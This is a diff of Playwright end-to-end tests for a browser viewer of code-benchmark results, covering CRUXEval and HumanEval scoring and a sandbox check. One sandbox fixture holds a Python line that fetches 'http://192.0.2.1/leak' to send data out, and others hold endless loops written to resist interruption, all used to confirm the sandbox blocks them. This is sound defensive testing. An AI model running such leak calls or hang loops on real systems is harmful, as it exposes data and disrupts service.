@@ -231,6 +231,14 @@ try {
     expectEqual(run(rows, 'GPT_4', 'cruxeval'), [644, 800], 'GPT_4 on cruxeval (lenient)');
     expectEqual(run(rows, 'ChatGPT_4', 'Avatar-Java'), [44, 85], 'ChatGPT_4 on Avatar-Java (lenient)');
     await page.selectOption('#judge', 'reference');
+    // DER/SR: the programs the models wrote, run in Python on their tests.
+    await page.selectOption('#task', 'code');
+    await page.waitForFunction(() => document.querySelector('#overview-table tbody tr td:nth-child(3)')?.textContent.trim() === 'code');
+    const code = await overview();
+    // 152: HumanEval_39 imports sympy, and programs see the standard library only (as the CLI's).
+    expectEqual(run(code, 'GPT_4', "HumanEval (GPT_4's code)"), [152, 162], 'GPT_4 DER code passing its test');
+    expectEqual(run(code, 'CodeLlama', "HumanEvalNoTest (CodeLlama's code)"), [94, 162], 'CodeLlama SR code passing its test');
+    await page.selectOption('#task', 'output');
   });
 
   await check('a dropped .zip of result folders is read', async () => {
@@ -305,6 +313,53 @@ with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as z:
     await page.selectOption('#format', '');
     await waitDone();
     expectEqual((await overview()).length, 1, 'runs when detected again');
+  });
+
+  await check('CRUXEval input generations without scores: every guessed input is run in Python', async () => {
+    const cruxeval = path.join(fixtures, 'cruxeval');
+    await dragFromDisk([path.join(cruxeval, 'samples', 'model_generations', 'sample_codellama-7b_temp0.2_input'),
+      path.join(cruxeval, 'data', 'cruxeval.jsonl')]);
+    await waitDone();
+    const stored = JSON.parse(fs.readFileSync(path.join(cruxeval, 'samples', 'evaluation_results',
+      'sample_scored_codellama-7b_temp0.2_input.json'))).pass_at_1 / 100;
+    const passAt1 = await page.getAttribute('#overview-table tbody tr td[data-pass-at-1]', 'data-pass-at-1');
+    if (Math.abs(Number(passAt1) - stored) > 1e-9) throw new Error(`pass@1 ${passAt1}, the scored file says ${stored}`);
+    await page.click('#overview-table tbody tr');
+    await page.waitForSelector('#drilldown-table tbody tr');
+    await page.click('#drilldown-table tbody tr:first-child');
+    await page.waitForSelector('#program-view .prediction');
+    const cards = await page.$$eval('#program-view .prediction', (p) => p.map((card) => card.textContent));
+    // sample_0's input is f([1, 1, 3, 1, 3, 1]); another order of the same numbers gives the same output.
+    if (!cards.some((c) => c.includes('correct') && c.includes('ran f([1, 1, 1, 1, 3, 3]): returned the expected output'))) {
+      throw new Error(`no run of another input judged right: ${cards.slice(0, 2)}`);
+    }
+    await page.screenshot({ path: path.join(out, 'runs.png'), fullPage: false });
+  });
+
+  await check('programs run in the browser can neither reach out nor hang the page', async () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'exerscope-e2e-runs-'));
+    const row = (id, code) => JSON.stringify({ id, model: 'm', benchmark: 'sandbox', task: 'input', code,
+      input: 'f(1)', expected: '1', prediction: 'f(1)' });
+    fs.writeFileSync(path.join(dir, 'sandbox.jsonl'), [
+      row('network', `def f(x):\n    import js\n    js.fetch('http://192.0.2.1/leak')\n    return x\n`),
+      row('forever', 'def f(x):\n    while True:\n        x += 1\n'),
+      row('swallows', 'def f(x):\n    while True:\n        try:\n            x += 1\n        except BaseException:\n            pass\n'),
+      row('fine', 'def f(x):\n    return x\n'),
+    ].join('\n'));
+    await dropFiles([path.join(dir, 'sandbox.jsonl')]);
+    await waitDone();
+    expectEqual(run(await overview(), 'm', 'sandbox'), [1, 4], 'only the harmless program is right');
+    const said = {};
+    for (const id of ['network', 'forever', 'swallows']) {
+      await page.click('#overview-table tbody tr');
+      await page.waitForSelector('#drilldown-table tbody tr');
+      await page.click(`#drilldown-table tbody tr[data-program="${id}"]`);
+      await page.waitForSelector(`#program-view[data-program="${id}"] .prediction`);
+      said[id] = await page.textContent('#program-view .prediction .judges');
+    }
+    if (!said.network.includes('raised ModuleNotFoundError')) throw new Error(`import js: ${said.network}`);
+    for (const id of ['forever', 'swallows']) if (!said[id].includes('timed out')) throw new Error(`${id}: ${said[id]}`);
+    fs.rmSync(dir, { recursive: true });
   });
 
   await check('CRUXEval-X results: placeholders excluded and counted, Java and Python programs parsed', async () => {
